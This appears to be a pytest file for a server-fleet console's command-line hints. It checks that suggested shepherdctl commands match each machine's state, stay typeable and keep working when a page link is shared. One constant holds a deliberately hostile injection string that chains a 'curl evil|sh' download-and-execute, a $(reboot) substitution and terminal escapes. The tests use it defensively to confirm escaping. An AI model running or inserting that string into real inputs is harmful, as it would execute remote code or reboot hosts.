from datetime import timedelta
from html import unescape
from urllib.parse import unquote_plus
from uuid import UUID

import pytest

from shepherdctl.options import REASON_TO_WRITE
from tests.support.bmdb.fleet import Fleet
from tests.support.console import Visitor, commands, parsed, plant_hostile_text

RELEASE = "INSERT INTO machine_release VALUES (:id, now(), 'ana',"
HOSTILE = "srv-1; curl evil|sh \"'$(reboot)\n\x1b[201~\u202e"


def names(page: str) -> list[str]:
    """Return the names of a page's commands, as the real command line reads them when a reason is written."""
    return [parsed(line.replace(REASON_TO_WRITE, "why"))[0] for line in commands(page)]


@pytest.fixture
def machine_id(fleet: Fleet) -> UUID:
    machine_id = fleet.unhealthy_machine()
    why = {"kind": "ssh-host-key-changed", "cause": "another", "last_interval_seconds": 60}
    fleet.plant("work_backoff", machine_id=machine_id, process="ShepherdRecovery", until=timedelta(hours=1), **why)
    return machine_id


def test_every_page_shows_commands_that_can_be_typed(visitor: Visitor, fleet: Fleet) -> None:
    hostile = plant_hostile_text(fleet, HOSTILE)
    fleet.sql("INSERT INTO machine_release VALUES (:id, now(), :t, :t)", id=fleet.reporting_machine(60), t=HOSTILE)
    fleet.sql(
        "INSERT INTO work_history SELECT :id, 'ShepherdRecovery', 'Started', now() - n * interval '1 second', NULL "
        "FROM generate_series(1, 500) AS n",
        id=hostile,
    )
    expected = {
        "/": ["status", "causes", "reconcile"],
        "/machines": ["machine list", "pause"],
        f"/machines/{hostile}": ["resume", "machine reboot", "machine release", "logs", "history"],
        "/work": ["resume", "machine release"],
    }
    assert {path: names(visitor.read(path)) for path in expected} == expected
    filtered = visitor.get("/machines?location=" + HOSTILE).text
    assert commands(filtered) == []
    assert "A filter has a character that cannot be typed" in filtered


@pytest.mark.parametrize(
    ("change", "more", "less"),
    [
        ("INSERT INTO machine_quarantine VALUES (:id, now(), '?', 'steps-used-up')", {"machine unquarantine"}, set()),
        ("DELETE FROM work_backoff WHERE machine_id = :id", set(), {"machine retry", "machine forget-host-key"}),
        ("UPDATE work_backoff SET kind = 'ssh-refused' WHERE machine_id = :id", set(), {"machine forget-host-key"}),
        ("INSERT INTO pauses (machine_id, owner, reason) VALUES (:id, 'ana', '?')", {"resume"}, {"pause"}),
        (f"{RELEASE} '?')", set(), {"machine reboot"}),
        (f"{RELEASE} '?', now())", set(), {"machine reboot", "machine release"}),
    ],
)
def test_the_commands_of_a_machine_follow_its_state(
    visitor: Visitor, fleet: Fleet, machine_id: UUID, change: str, more: set[str], less: set[str]
) -> None:
    page = visitor.read(f"/machines/{machine_id}")
    assert commands(page) == [
        f"shepherdctl machine retry {machine_id} --reason '…'",
        f"shepherdctl machine forget-host-key {machine_id} --reason '…'",
        f"shepherdctl pause --machine {machine_id} --reason '…'",
        f"shepherdctl machine reboot {machine_id} --reason '…'",
        f"shepherdctl machine release {machine_id} --reason '…'",
        f"shepherdctl logs {machine_id}",
    ]
    assert page.partition("<footer")[0].count(' class="copy"') == 6
    fleet.change(change.replace(":id", f"'{machine_id}'"))
    before, after = names(page), names(visitor.read(f"/machines/{machine_id}"))
    assert set(after) == ({*before} | more) - less


def test_a_page_can_be_sent_to_a_colleague(visitor: Visitor, machine_id: UUID) -> None:
    """Whose console has another port and another token."""
    for path in ("/", f"/machines/{machine_id}?days=7", "/machines?location=rack+7%27%22&state=unhealthy&state=failed"):
        sent = unescape(visitor.read(path).partition("<footer")[2].partition('<code class="command">')[2])
        name, options = parsed(sent.partition("</code>")[0])
        assert name == "console"
        page = options["page"]
        for address in (page, f"http://127.0.0.1:1{page}", page.replace("?", "?token=x&")):
            opened = Visitor(visitor.access, enters=False)
            response = opened.session.get(visitor.access.opening(address), timeout=30)
            target = unescape(response.text.partition("0;url=")[2].partition('"')[0])
            assert opened.read(target) != ""
            assert unquote_plus(target) == unquote_plus(path)
